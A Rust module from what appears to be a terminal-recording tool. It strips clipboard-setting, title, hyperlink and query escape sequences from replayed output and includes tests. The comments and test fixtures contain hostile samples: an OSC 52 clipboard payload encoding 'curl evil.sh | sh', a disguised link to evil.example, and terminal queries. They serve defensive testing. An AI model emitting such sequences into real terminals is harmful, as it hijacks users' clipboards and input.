//! What of a recording may reach the person's own terminal when it is replayed.
//!
//! A run's output is anyone's text: a remote banner, a file a step printed. Played as it is,
//! it could set the person's clipboard (OSC 52: tmux then pastes `curl evil.sh | sh`),
//! their window title, hyperlinks whose text hides their target (OSC 8), or ask the terminal
//! questions whose answers arrive as typed input. So replay passes on only what draws the
//! screen: text, controls, and the CSI and short ESC sequences of cursor, colour, erase,
//! scroll and mode; OSC, DCS, SOS, PM and APC strings are dropped (a link shows as its
//! text), and so are the CSI sequences that ask the terminal something or move its window.
//! Piped, a recording is its plain text. Both read the stream with the decoder's own
//! transitions (term/escapes.rs), so they agree with the transcript on every sequence.

use crate::term::escapes::{Class, Kind, Scanner};
use crate::term::transcript::render_line;

/// The longest CSI sequence passed on; a longer one is no drawing (and is dropped).
const LONGEST_CSI: usize = 256;

/// The drawing of a recording's output, safe for the person's terminal.
#[derive(Debug, Default)]
pub struct Safe {
    scanner: Scanner,
    /// The sequence being read, while its kind may pass.
    pending: String,
    /// The sequence being read is one that never passes.
    dropping: bool,
    /// The last sequence was dropped: a string terminator (`ESC \`) right after it ends it
    /// and goes with it.
    after_dropped: bool,
    /// The modes that what was filtered left on, that move the cursor when turned off.
    modes: Modes,
}

/// Modes a recording may leave on whose reset moves the cursor (so the end of a replay turns
/// them off only when they were turned on).
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct Modes {
    /// The alternate screen (a full-screen program's): leaving it restores the cursor saved
    /// on entering it; leaving it when it was never entered moves the cursor there too.
    pub alternate: bool,
    /// A scroll region was set: resetting it moves the cursor home.
    pub margins: bool,
    /// Origin mode was set: resetting it moves the cursor home.
    pub origin: bool,
}

impl Safe {
    pub fn filter(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        for c in text.chars() {
            match self.scanner.next(c) {
                // C1 controls written as characters (U+009B is CSI, U+009D OSC to some
                // terminals): never passed on.
                Class::Printed if is_c1(c) => {}
                Class::Printed => {
                    self.after_dropped = false;
                    out.push(c);
                }
                // A control executes where it stands, inside a sequence too: out at once,
                // so that what is left of the sequence is judged as the terminal reads it.
                Class::Control => {
                    if self.pending.is_empty() {
                        self.after_dropped = false;
                    }
                    if c != '\x7f' {
                        out.push(c);
                    }
                }
                Class::Sequence { starts: true, .. } => {
                    // An unfinished sequence is ended by this one in the terminal too.
                    self.end_sequence(&mut out);
                    self.pending.push(c);
                }
                Class::Sequence { kind, .. } => match kind {
                    // DEL inside a sequence does nothing to a terminal: left out.
                    Kind::Csi | Kind::Esc if c == '\x7f' => {}
                    Kind::Csi | Kind::Esc if !self.dropping => self.pending.push(c),
                    _ => {
                        self.pending.clear();
                        self.dropping = true;
                    }
                },
            }
            if self.scanner.in_text() {
                self.end_sequence(&mut out);
            }
        }
        out
    }

    /// The sequence read so far is over: out it goes, if it may.
    fn end_sequence(&mut self, out: &mut String) {
        if std::mem::take(&mut self.dropping) {
            self.after_dropped = true;
            return;
        }
        let sequence = std::mem::take(&mut self.pending);
        // An ESC that another ends at once does nothing; a terminator ends what was dropped.
        if sequence.len() < 2 || (sequence == "\x1b\\" && self.after_dropped) {
            return;
        }
        self.after_dropped = false;
        self.modes.follow(&sequence);
        if draws(&sequence) {
            out.push_str(&sequence);
        }
    }

    /// The modes what was filtered left on.
    pub fn modes(&self) -> Modes {
        self.modes
    }
}

impl Modes {
    /// Follows one sequence: DEC private modes set and reset (`CSI ? … h`/`l`), scroll
    /// margins (`CSI top;bottom r`; without parameters they are the whole screen again).
    fn follow(&mut self, sequence: &str) {
        let Some(csi) = sequence.strip_prefix("\x1b[") else {
            return;
        };
        let Some(last) = csi.chars().last() else {
            return;
        };
        let params = &csi[..csi.len() - last.len_utf8()];
        if last == 'r' {
            self.margins = !params.is_empty();
            return;
        }
        let (Some(private), true) = (params.strip_prefix('?'), matches!(last, 'h' | 'l')) else {
            return;
        };
        for mode in private.split(';') {
            match mode {
                "1049" | "1047" | "47" => self.alternate = last == 'h',
                "6" => self.origin = last == 'h',
                _ => {}
            }
        }
    }
}

/// Whether a CSI or ESC sequence only draws: moves the cursor, sets colours and attributes,
/// erases, scrolls, inserts or deletes, sets modes and margins; never one that asks the
/// terminal something (the answer would arrive as typed input: device status and attributes,
/// `$p` mode requests, XTVERSION, kitty's keyboard query, DECID) nor one that acts on its
/// window (XTWINOPS `t`). What is not known to draw is left out.
fn draws(sequence: &str) -> bool {
    let Some(csi) = sequence.strip_prefix("\x1b[") else {
        // ESC Z asks the terminal who it is.
        return sequence != "\x1bZ";
    };
    if sequence.len() > LONGEST_CSI {
        return false;
    }
    let Some(last) = csi.chars().last() else {
        return false;
    };
    let body = &csi[..csi.len() - last.len_utf8()];
    let private = body
        .chars()
        .next()
        .filter(|c| matches!(c, '?' | '>' | '<' | '='));
    let intermediates: String = body.chars().filter(|c| (' '..='/').contains(c)).collect();
    match (private, intermediates.as_str(), last) {
        // DEC private modes, selective erase.
        (Some('?'), "", 'h' | 'l' | 'J' | 'K') => true,
        // kitty's keyboard modes pushed and popped (its query is `CSI ? u`).
        (Some('>' | '<' | '='), "", 'u') => true,
        (Some(_), _, _) => false,
        // The cursor's shape.
        (None, " ", 'q') => true,
        (None, "", f) => "ABCDEFGHIJKLMPSTXZ@`abdefghlmrsu".contains(f),
        _ => false,
    }
}

/// A C1 control character (U+0080 to U+009F).
fn is_c1(c: char) -> bool {
    ('\u{80}'..='\u{9f}').contains(&c)
}

/// A recording's plain text, as `asciinema cat` would print it without its sequences:
/// each line as it was left (carriage returns and backspaces applied, tabs expanded).
#[derive(Debug, Default)]
pub struct Plain {
    scanner: Scanner,
    line: String,
}

impl Plain {
    /// The lines this text completed.
    pub fn push(&mut self, text: &str) -> String {
        let mut out = String::new();
        for c in text.chars() {
            match (self.scanner.next(c), c) {
                (Class::Printed, c) if is_c1(c) => {}
                (Class::Printed, _) | (Class::Control, '\r' | '\x08' | '\t') => self.line.push(c),
                (Class::Control, '\n') => {
                    out.push_str(render_line(&self.line).trim_end());
                    out.push('\n');
                    self.line.clear();
                }
                _ => {}
            }
        }
        out
    }

    /// The last line, if it had text: the recording ended.
    pub fn finish(&mut self) -> String {
        let last = render_line(&std::mem::take(&mut self.line));
        match last.trim_end() {
            "" => String::new(),
            text => format!("{text}\n"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn safe_in_pieces(text: &str, cut: usize) -> String {
        let mut safe = Safe::default();
        crate::term::escapes::pieces(text, cut)
            .into_iter()
            .map(|piece| safe.filter(piece))
            .collect()
    }

    #[test]
    fn only_what_draws_passes_however_the_stream_is_cut() {
        let text = concat!(
            "\x1b[1;31mred\x1b[0m ",
            "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
            "\x1b]0;pwned\x1b\\",
            "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ ",
            "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
            "\x1b_Gf=100;AAAA\x1b\\",
            "\x1b[6n\x1b[c\x1b[21t\x1b[?2004$p",
            // Hidden: a control or DEL inside, C1 controls as characters, DECID.
            "\x1b\n[6n\x1b[\x7f21t\u{9d}52;c;eA==\u{9c}\u{9b}6n\x1bZ\x1b[>q\x1b[?u\x1b[5x",
            "\x1b[2J\x1b[H\x1b(Bend\r\n",
        );
        let want = "\x1b[1;31mred\x1b[0m click \n52;c;eA==6n\x1b[2J\x1b[H\x1b(Bend\r\n";
        for cut in 1..=text.len() {
            assert_eq!(safe_in_pieces(text, cut), want, "cut every {cut} bytes");
        }
    }

    #[test]
    fn the_alternate_screen_is_known_whatever_the_cut() {
        for (text, on) in [
            ("a\x1b[?1049hb", true),
            ("\x1b[?1049h\x1b[?1049l", false),
            ("\x1b[?25;47h", true),
            ("\x1b[?1h", false),
        ] {
            let mut safe = Safe::default();
            safe.filter("\x1b[2;20r\x1b[?6h");
            assert!(safe.modes().margins && safe.modes().origin);
            safe.filter("\x1b[r\x1b[?6l");
            assert_eq!(safe.modes(), Modes::default());
            for cut in 1..=text.len() {
                let mut safe = Safe::default();
                for piece in crate::term::escapes::pieces(text, cut) {
                    safe.filter(piece);
                }
                assert_eq!(safe.modes().alternate, on, "{text:?} cut every {cut}");
            }
        }
    }

    #[test]
    fn plain_text_is_each_line_as_it_was_left() {
        let mut plain = Plain::default();
        let mut out =
            plain.push("\x1b[32mok\x1b[0m 1\r\nprogress 10%\rprogress 100%\r\n\x1b]0;t\x07ab\x08c");
        out.push_str(&plain.finish());
        assert_eq!(out, "ok 1\nprogress 100%\nac\n");
    }
}
